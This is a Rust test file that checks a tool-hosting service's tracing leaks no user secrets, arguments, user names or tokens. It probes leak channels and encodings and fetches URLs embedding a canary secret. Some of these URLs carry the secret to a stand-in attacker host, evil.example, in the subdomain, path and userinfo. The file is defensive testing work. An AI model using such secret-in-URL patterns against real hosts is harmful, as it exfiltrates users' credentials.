//! Confidentiality of traces: no secrets, arguments or user names, whatever toolkits and clients do.

use base64::Engine;
use base64::prelude::BASE64_STANDARD;
use serde_json::json;

use super::traced;
use crate::harness::{Upstream, guests};

/// Secret value of the user. Lower case and valid in a host name, so that every channel can carry it.
const CANARY: &str = "canary-a1b2c3-5ecret";
/// Argument of the caller, which must not appear in a trace.
const ARGUMENT: &str = "argument-of-the-caller";
/// User name of the caller, which must not appear in a trace.
const USER: &str = "user-8f14e45f";

const CHANNELS: [&str; 12] = [
    "text",
    "message",
    "content",
    "progress",
    "data",
    "failure",
    "parameters",
    "panic",
    "log",
    "stdout",
    "stderr",
    "host",
];
const ENCODINGS: [&str; 7] = ["raw", "json", "escaped", "percent", "base64", "hexadecimal", "capitals"];

#[tokio::test]
async fn nothing_of_a_call_is_in_its_trace() {
    let upstream = Upstream::start().await;
    let (kitbag, collector) = traced(|settings| settings.accept_traceparent = true).await;
    kitbag.deploy(guests::SIGNED_IN).await;
    let user = kitbag.as_user(USER);
    user.set_secret("probe", "API_KEY", CANARY).await;
    user.set_secret("signed-in", "CLIENT_ID", CANARY).await;
    user.set_secret("signed-in", "CLIENT_SECRET", CANARY).await;
    let mut calls = 0;

    for encoding in ENCODINGS {
        for channel in CHANNELS {
            let arguments = json!({ "name": "API_KEY", "into": channel, "as": encoding, "note": ARGUMENT });
            user.call("probe__leak", arguments).await;
            calls += 1;
        }
    }
    let urls = [
        // Each URL carries the secret in a place that other tracing tools record.
        upstream.url(&format!("/{CANARY}?q={CANARY}")),
        upstream.url(&format!("/redirect/302?/{CANARY}")),
        upstream.url(&format!("/redirect/302?http://{CANARY}.evil.example/")),
        format!("http://{CANARY}.evil.example/{CANARY}"),
        format!("http://{CANARY}@127.0.0.1:18999/"),
        format!("http://127.0.0.1:18999#{CANARY}"),
    ];
    for url in &urls {
        for method in ["GET", CANARY] {
            let headers = json!({ "x-note": CANARY, "traceparent": CANARY, "user-agent": CANARY });
            let arguments = json!({ "method": method, "url": url, "headers": headers, "body": CANARY });
            user.call("probe__fetch", arguments).await;
            calls += 1;
        }
    }
    user.call("signed-in__fetch", json!({ "url": upstream.url(&format!("/api?{CANARY}")) })).await;
    user.call("probe__search", json!({ "query": ARGUMENT })).await;
    user.call("probe__nothing", json!([ARGUMENT])).await;
    user.call("probe__nothing", json!({ ARGUMENT: ARGUMENT })).await;
    calls += 3;
    // A client may send a secret as a tool name by mistake: such a request is not traced as a call.
    user.call(CANARY, json!({})).await.assert_unknown_tool();
    user.call(&format!("probe__{CANARY}"), json!({})).await.assert_unknown_tool();
    let (mut headers, body) = user.message(
        "tools/call",
        Some("probe__nothing"),
        json!({ "name": "probe__nothing", "arguments": {} }),
    );
    let parent = format!("00-{}-{}-01", "ab".repeat(16), "cd".repeat(8));
    headers.insert("traceparent", parent.parse().expect("ASCII"));
    for name in ["tracestate", "baggage", "x-note"] {
        headers.insert(name, format!("note={CANARY}").parse().expect("ASCII"));
    }
    let answer = kitbag.anonymous().send(http::Method::POST, "/mcp", headers, body.to_string()).await;
    answer.assert_status(200);
    calls += 1;

    let spans = collector.spans_of(calls).await;
    assert!(spans.iter().filter(|span| span.name == "fetch").count() > 10, "{spans:#?}");
    let token = user.token();
    let base64 = &BASE64_STANDARD.encode(CANARY)[4..16];
    let hexadecimal = hex::encode(CANARY);
    let forbidden = [
        CANARY,
        base64,
        &hexadecimal,
        ARGUMENT,
        USER,
        token,
        "minted-token",
        "evil.example",
        "/api",
        "redirect",
        "hello",
        "note",
    ];
    for (_, body) in collector.received() {
        let text = String::from_utf8_lossy(&body).to_lowercase();
        for forbidden in forbidden {
            assert!(!text.contains(&forbidden.to_lowercase()), "{forbidden} is in a trace: {text}");
        }
    }
    let hosts = spans.iter().map(|span| span.attribute("server.address"));
    assert!(hosts.into_iter().all(|host| host.is_null() || host == "127.0.0.1"));
}
